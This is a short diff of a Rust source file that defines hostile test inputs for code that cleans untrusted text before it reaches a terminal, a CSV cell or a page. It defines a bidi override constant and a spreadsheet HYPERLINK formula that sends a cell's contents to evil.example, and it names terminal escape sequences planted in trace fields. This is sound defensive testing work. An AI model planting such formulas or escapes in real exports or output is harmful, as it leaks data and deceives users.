@@ -309,7 +309,8 @@ pub const BIDI: char = '\u{202e}';
 /// A spreadsheet formula that sends a cell to another site when opened.
 pub const FORMULA: &str = "=HYPERLINK(\"http:evil.example?d=\"&A2,\"open\")";
 
-/// The offload run as a crafted trace holds it (issue 20): terminal escapes
+/// The offload run as a crafted trace holds it (text from outside cleaned
+/// once before it reaches a terminal, a CSV cell or a page): terminal escapes
 /// ([`CLIPBOARD`], [`CLEAR`]) and a bidi override ([`BIDI`]) in the
 /// hostname, the command, the watched process's name and command line, its
 /// flags and an event; spreadsheet formulas ([`FORMULA`], `-2+3`,
